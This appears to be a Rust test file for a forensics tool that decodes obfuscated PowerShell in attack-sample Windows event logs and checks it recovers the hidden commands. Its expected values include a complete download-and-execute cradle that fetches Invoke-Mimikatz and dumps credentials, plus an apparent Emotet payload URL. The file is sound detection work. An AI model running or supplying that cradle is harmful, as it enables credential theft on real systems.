//! Obfuscated commands of real logs, read by hand, and what the program makes of them.

use std::collections::BTreeMap;
use std::path::Path;

use psr_forensics::decode::{Decoder, RecordFilter};
use psr_forensics::input::{InputReader, Piece, discover, piece_count};
use psr_forensics::layers::{UnwrapLimits, Unwrapped, find_layers};
use psr_forensics::model::index::InputIdx;
use psr_forensics::model::{Channel, RecordRef};

use crate::common::corpus;

/// Wants every record.
struct All;

impl RecordFilter for All {
    fn wants(&self, _: RecordRef, _: Channel, _: &str, _: u32) -> bool {
        true
    }
}

/// The script blocks, command lines and services' paths of a log, by the EventRecordID of the
/// record they begin in.
fn texts(log: &Path) -> BTreeMap<u64, String> {
    let mut texts = BTreeMap::new();
    let mut blocks: BTreeMap<String, BTreeMap<u32, (u64, String)>> = BTreeMap::new();
    let (mut decoder, mut piece) = (Decoder::default(), Piece::default());
    for input in discover(&[log.to_owned()]).unwrap() {
        let mut reader = InputReader::new(&input);
        for _ in 0..piece_count(&input) {
            reader.next(&mut piece).unwrap();
            decoder.decode_piece(&input, InputIdx::default(), &mut piece, &All, |record| {
                let field = |name| record.data.get(name).map(str::to_owned);
                if let (Some(id), Some(text)) = (field("ScriptBlockId"), field("ScriptBlockText")) {
                    let number = field("MessageNumber").and_then(|n| n.parse().ok()).unwrap_or(1);
                    blocks.entry(id).or_default().insert(number, (record.record_id, text));
                } else if let Some(text) = field("CommandLine").or_else(|| field("ImagePath")) {
                    texts.insert(record.record_id, text);
                }
            });
        }
    }
    for parts in blocks.into_values() {
        let begins = parts.values().next().map_or(0, |(record, _)| *record);
        texts.insert(begins, parts.into_values().map(|(_, text)| text).collect());
    }
    texts
}

/// What Invoke-Obfuscation was given in the three logs, in all but its own examples.
const MIMIKATZ: &str = "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds";

/// A log, and records of it with a text that each of them hides.
type Hidden = (&'static str, &'static [(u64, &'static str)]);

/// Texts in single quotes were read in the logs by hand; streams were inflated and
/// `-Enc` arguments decoded with Python.
const HIDDEN: &[Hidden] = &[
    (
        "deepbluecli/Powershell-Invoke-Obfuscation-encoding-menu.evtx",
        &[
            // ASCII, hex, octal, binary, BXOR, special characters, `[char]` sums.
            (631_706, MIMIKATZ),
            (636_579, MIMIKATZ),
            (641_483, MIMIKATZ),
            (646_409, MIMIKATZ),
            (656_607, MIMIKATZ),
            (661_160, MIMIKATZ),
            (661_161, MIMIKATZ),
            // White space.
            (665_864, MIMIKATZ),
        ],
    ),
    (
        "deepbluecli/Powershell-Invoke-Obfuscation-many.evtx",
        &[
            // Sums, reordered and turned round, one in another.
            (581_260, MIMIKATZ),
            (585_221, MIMIKATZ),
            (589_495, MIMIKATZ),
            (589_499, MIMIKATZ),
            // Hex by `-as [char]` and `$OFS`, ASCII, binary.
            (607_735, MIMIKATZ),
            (607_739, MIMIKATZ),
            (622_103, MIMIKATZ),
        ],
    ),
    (
        "deepbluecli/Powershell-Invoke-Obfuscation-string-menu.evtx",
        &[(710_848, MIMIKATZ), (714_840, MIMIKATZ), (719_151, MIMIKATZ), (719_154, MIMIKATZ)],
    ),
    (
        "deepbluecli/metasploit-psexec-powershell-target-security.evtx",
        &[
            (13_278, "Microsoft.Win32.UnsafeNativeMethods"),
            (13_279, "Microsoft.Win32.UnsafeNativeMethods"),
            (13_281, "Microsoft.Win32.UnsafeNativeMethods"),
        ],
    ),
    (
        "deepbluecli/metasploit-psexec-powershell-target-system.evtx",
        &[(8_424, "Microsoft.Win32.UnsafeNativeMethods")],
    ),
    (
        "deepbluecli/powersploit-security.evtx",
        &[(13_488, "New-ObJecT SYSteM.NET.WeBCliENT"), (13_499, "New-OBJECT SyStEm.NET.WeBClIeNt")],
    ),
    (
        "attack-samples/Other/emotet/exec_emotet_ps_4104.evtx",
        &[
            (683, "http://quanticaelectronics.com/wp-admin/7ATr78/"),
            (683, "new-object neT.WEbcLiENt"),
        ],
    ),
    (
        "attack-samples/Credential Access/phish_windows_credentials_powershell_scriptblockLog_4104.evtx",
        &[(1_122, "Please enter user credentials")],
    ),
];

#[test]
fn obfuscated_commands_of_real_logs_can_be_read() {
    let Some(corpus) = corpus("evtx") else { return };
    let mut decoded = 0;
    for (log, hidden) in HIDDEN {
        let texts = texts(&Path::new(&corpus).join(log));
        for (record, inside) in *hidden {
            let text = &texts[record];
            let found = find_layers(text, &UnwrapLimits::default());
            let read = found.layers.iter().any(|layer| layer.text.contains(inside));
            assert!(read && !text.contains(inside), "{log}:{record} {found:?}");
            assert_eq!(found.stopped, None, "{log}:{record}");
            decoded += 1;
            show(log, *record, text, &found);
        }
    }
    assert!(decoded >= 20);
}

/// Before and after, for who reads along.
#[expect(clippy::print_stdout, reason = "a list to be read")]
fn show(log: &str, record: u64, text: &str, found: &Unwrapped) {
    println!("### {log}, record {record}\n\nbefore: `{}`\n", text.trim());
    for layer in &found.layers {
        println!("{}: `{}`\n", layer.how.as_str(), layer.text.trim());
    }
}
